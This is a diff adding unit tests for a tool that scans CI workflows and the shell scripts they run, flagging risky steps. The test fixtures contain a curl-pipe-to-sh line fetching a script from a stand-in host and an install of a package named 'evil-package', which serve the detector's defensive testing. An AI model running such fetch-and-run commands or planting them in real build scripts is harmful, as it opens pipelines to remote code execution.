@@ -291,3 +291,24 @@ def test_a_real_workflow_with_curl_pipe_bash_and_cargo_install() -> None:
     assert [(c.tool, c.line) for c in manifest.commands if c.problem] == [("curl|sh", 27), ("cargo", 46)]
     assert [(d.ecosystem, d.name, d.version) for d in manifest.dependencies if d.ecosystem in ("url", "cargo")] == [
         ("url", "https://packages.fluvio.io/v1/install.sh", None), ("cargo", "cross", None)]
+
+
+def test_a_repository_script_a_step_runs_is_read() -> None:
+    files = {"scripts/ci.sh": "#!/usr/bin/env bash\nset -e\npip install evil-package\nsource ./scripts/more.sh\n",
+             "scripts/more.sh": "curl -fsSL https://x.example/i.sh | sh\nbash scripts/ci.sh\n",
+             "tools/setup": "#!/usr/bin/python3\nimport os\n"}
+    text = workflow_text("      - run: bash scripts/ci.sh", "      - run: ./tools/setup")
+    manifest = parse_workflow(text, files)
+    assert [(c.tool, c.line, c.text) for c in manifest.commands] == [
+        ("pip", 6, "scripts/ci.sh:3: pip install evil-package"),
+        ("curl|sh", 6, "scripts/ci.sh:4: scripts/more.sh:1: curl -fsSL https://x.example/i.sh | sh")]
+    assert {(d.ecosystem, d.name, d.line) for d in manifest.dependencies} == {
+        ("pypi", "evil-package", 6), ("url", "https://x.example/i.sh", 6)}
+    scanned = {path for path, _ in workflow.includes(text, ".github/workflows/ci.yml")}
+    assert {"scripts/ci.sh", "tools/setup"} <= scanned
+    assert set(manifest.includes) <= scanned | {"scripts/more.sh"}
+
+
+def test_the_include_scan_finds_scripts_given_to_a_shell() -> None:
+    text = workflow_text("      - run: bash .ci/run --fast", "      - run: source tools/env && sh -e ci/build")
+    assert {"ci/build", ".ci/run", "tools/env"} <= {path for path, _ in workflow.includes(text, "w.yml")}
